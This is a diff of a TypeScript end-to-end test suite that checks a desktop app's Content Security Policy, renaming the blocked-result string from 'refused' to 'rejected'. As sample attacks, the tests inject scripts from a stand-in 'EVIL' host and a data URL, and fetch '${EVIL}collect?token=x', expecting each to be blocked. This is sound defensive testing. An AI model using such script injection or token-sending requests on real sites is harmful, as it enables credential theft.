@@ -106,7 +106,7 @@ describeDesktop('security checklist', (driver) => {
     expect(await runTexts(page)).toEqual([]);
     // A script from the backend's host, one from a foreign host and one in a data URL.
     for (const src of [`${backend.origin}/forms/embed/v2.js`, `${EVIL}x.js`, 'data:text/javascript,window.pwned=1'])
-      expect(await inject(page, { tag: 'script', attributes: { src } }), src).toBe('refused');
+      expect(await inject(page, { tag: 'script', attributes: { src } }), src).toBe('rejected');
     expect(await isPwned()).toBe(false);
     const seen = await violations();
     for (const directive of ['script-src-elem', 'script-src-attr', 'script-src']) expect(seen).toContain(directive);
@@ -115,7 +115,7 @@ describeDesktop('security checklist', (driver) => {
     const own = await page.evaluate(() => document.querySelector('script[type=module]')?.getAttribute('src') ?? '');
     const preload = (href: string) => inject(page, { tag: 'link', attributes: { rel: 'modulepreload', href } });
     expect(await preload(`${own}?again`)).toBe('loaded');
-    expect(await preload(`${EVIL}x.js`)).toBe('refused');
+    expect(await preload(`${EVIL}x.js`)).toBe('rejected');
     expect(await (await fetch(`${backend.origin}/forms/embed/v2.js`)).text()).toContain('hbspt');
   });
 
@@ -133,7 +133,7 @@ describeDesktop('security checklist', (driver) => {
     const call = (url: string) => page.evaluate((address) => fetch(address).then(() => 'answered', String), url);
     const picture = { tag: 'img', attributes: { src: `${backend.origin}/apple-touch-icon.png` } };
     const sheet = { tag: 'link', attributes: { rel: 'stylesheet', href: `${foreign.origin}/x.css` } };
-    for (const part of [picture, sheet]) expect(await inject(page, part), part.tag).toBe('refused');
+    for (const part of [picture, sheet]) expect(await inject(page, part), part.tag).toBe('rejected');
     expect(await call(foreign.origin)).toBe('TypeError: Failed to fetch');
     expect(await call(`${EVIL}collect?token=x`)).toBe('TypeError: Failed to fetch');
     await page.evaluate((url) => void navigator.sendBeacon(url, 'x'), foreign.origin);
@@ -232,10 +232,10 @@ async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
 async function inject(page: Page, make: { tag: string; attributes?: Record<string, string>; text?: string }) {
   return page.evaluate(
     ({ tag, attributes = {}, text = '' }) =>
-      new Promise<'loaded' | 'refused' | 'nothing happened'>((resolve) => {
+      new Promise<'loaded' | 'rejected' | 'nothing happened'>((resolve) => {
         const element = document.createElement(tag);
         element.addEventListener('load', () => resolve('loaded'));
-        element.addEventListener('error', () => resolve('refused'));
+        element.addEventListener('error', () => resolve('rejected'));
         for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
         element.textContent = text;
         document.body.append(element);
